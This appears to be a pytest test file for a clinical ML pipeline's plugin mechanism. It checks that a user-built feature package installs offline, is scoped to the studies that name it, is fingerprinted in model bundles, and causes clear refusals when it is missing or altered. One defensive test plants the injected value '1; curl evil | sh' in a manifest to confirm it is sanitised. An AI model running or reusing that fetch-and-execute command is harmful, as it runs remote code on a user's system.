"""A package with a feature of a user's own, as the documentation has it: built, installed, checked, trained with."""

import json
import os
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner
from uv import find_uv_bin

from pipeline.bundle import load_bundle
from pipeline.bundle.save import members_of
from pipeline.config import load_study, read_text
from pipeline.errors import BundleRefused, UsageError
from pipeline.features.catalogue import CATALOGUE
from pipeline.features.plugins import features_with, load_plugin
from pipeline.features.transformers import VisitFeatures
from pipeline.featurise import command as features_command
from pipeline.fitting import fit_study
from pipeline.publish import publishing
from pipeline.study import FeatureChoice
from pipeline.synthetic.canaries import canaries
from pipeline.testing import check_feature

ROOT = Path(__file__).parents[2]
PAGE = ROOT / "docs" / "your-own-feature.md"
PLUGIN, MODULE, FEATURE = "gait-lab-features:clinic", "gait_lab_features", "delay_to_clinic_y"
FILE = re.compile(r'^```\w+ title="([^"]+)"\n(.*?)^```$', re.MULTILINE | re.DOTALL)


@pytest.fixture(scope="module")
def package(tmp_path_factory):
    """The files of the documentation's page."""
    folder = tmp_path_factory.mktemp("gait-lab-features")
    for name, text in FILE.findall(PAGE.read_text(encoding="utf-8")):
        (folder / Path(name).name).write_text(text, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def installed(package, tmp_path_factory):
    """The package, built and installed into a folder of its own, without a network."""
    target = tmp_path_factory.mktemp("site")
    options = ["--quiet", "--offline", "--no-deps", "--no-build-isolation", "--python", sys.executable]
    done = subprocess.run(
        [find_uv_bin(), "pip", "install", *options, "--target", str(target), str(package)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return target


@pytest.fixture
def there(installed, monkeypatch):
    """The package can be imported."""
    monkeypatch.syspath_prepend(str(installed))
    monkeypatch.delitem(sys.modules, MODULE, raising=False)


@pytest.fixture(scope="module")
def model(installed, line, tmp_path_factory):
    """A model trained with the user's feature."""
    folder = tmp_path_factory.mktemp("plugged") / "model"
    study = load_study("dystonia-intake")
    study = replace(
        study, name="plugged", folds=2, targets=study.targets[:1], comparators=(), features=FeatureChoice((PLUGIN,))
    )
    with pytest.MonkeyPatch.context() as patch:
        patch.syspath_prepend(str(installed))
        bundle, report = fit_study(line.cohort, study, "plugged")
        with publishing(folder, {"made": "once"}) as staging:
            members_of(bundle, canaries(), report)(staging)
    sys.modules.pop(MODULE, None)
    return folder


def test_its_own_test_passes(package, installed):
    """The two lines of the documentation are all that a user needs."""
    environment = os.environ | {"PYTHONPATH": os.pathsep.join([str(installed), str(ROOT)])}
    command = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-c", os.devnull, str(package)]
    done = subprocess.run(command, capture_output=True, text=True, check=False, env=environment, cwd=package)
    assert done.returncode == 0, done.stdout
    assert "1 passed" in done.stdout


@pytest.mark.usefixtures("there")
def test_it_is_in_the_catalogue_of_a_study_that_names_it_and_of_no_other():
    """Being installed is not enough: two studies on one machine don't get in each other's way."""
    assert features_with([]) == CATALOGUE
    (added,) = features_with([PLUGIN])[len(CATALOGUE) :]
    assert added.spec.name == FEATURE
    check_feature(added, examples=5)
    Path("mine.toml").write_text(read_text("studies", "dystonia-intake") + f'\n[features]\nplugins = ["{PLUGIN}"]\n')
    run = CliRunner().invoke
    assert FEATURE not in run(features_command, ["--list"]).output
    assert FEATURE in run(features_command, ["--list", "--study", "./mine.toml"]).output


@pytest.mark.usefixtures("there")
def test_a_transformer_of_that_study_hands_it_out(line):
    """A pipeline of scikit-learn sees what `dystonia train` sees, plugins included."""
    study = replace(load_study("dystonia-intake"), features=FeatureChoice((PLUGIN,)))
    transformer = VisitFeatures(study=study).set_output(transform="pandas")
    assert transformer.fit_transform(line.cohort)[FEATURE].notna().any()
    assert FEATURE not in VisitFeatures().get_feature_names_out()


@pytest.mark.usefixtures("there")
def test_a_bundle_holds_its_name_version_and_fingerprint_and_predicts_with_it(model, line):
    manifest = json.loads((model / "manifest.json").read_text())
    assert manifest["plugins"] == {PLUGIN: {"distribution": "gait-lab-features", "version": "0.1.0"}}
    assert manifest["features"][FEATURE]["version"] == 1
    assert FEATURE in manifest["columns"]
    assert len(load_bundle(model).predict(line.cohort)) == len(line.cohort)


def test_without_it_the_bundle_is_refused_with_the_line_that_cures_it(model):
    with pytest.raises(
        BundleRefused, match=r"not installed\. Run: pip install gait-lab-features==0\.1\.0\."
    ) as refused:
        load_bundle(model)
    assert refused.value.exit_code == 76


def test_where_it_gives_other_values_the_bundle_is_refused(model, installed, tmp_path, monkeypatch):
    """A changed package of the same version is told by its fingerprint."""
    other = shutil.copytree(installed, tmp_path / "site")
    code = other / f"{MODULE}.py"
    code.write_text(code.read_text().replace("years, np.nan", "2 * years, np.nan"))
    monkeypatch.syspath_prepend(str(other))
    monkeypatch.delitem(sys.modules, MODULE, raising=False)
    with pytest.raises(BundleRefused, match=f"'{FEATURE}' has changed .* pip install gait-lab-features==0.1.0"):
        load_bundle(model)
    sys.modules.pop(MODULE, None)


def test_a_manifest_cannot_put_words_into_the_line(model, tmp_path):
    """What a bundle says of a package is shown in plain characters only: nobody copies a command out of it."""
    bundle = shutil.copytree(model, tmp_path / "bundle")
    manifest = json.loads((bundle / "manifest.json").read_text())
    manifest["plugins"][PLUGIN]["version"] = "1; curl evil | sh"
    (bundle / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(BundleRefused, match=r"pip install gait-lab-features==1curlevilsh\."):
        load_bundle(bundle)


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("no colon", "it is 'distribution:entry'"),
        ("../x:y", "it is 'distribution:entry'"),
        ("gone:x", "pip install gone"),
    ],
)
def test_a_plugin_that_is_not_there_is_named(name, says):
    with pytest.raises(UsageError, match=says):
        load_plugin(name)


@pytest.mark.usefixtures("there")
def test_a_study_that_names_it_twice_is_refused():
    with pytest.raises(UsageError, match=f"'{FEATURE}' is the name of another feature too"):
        features_with([PLUGIN, PLUGIN])
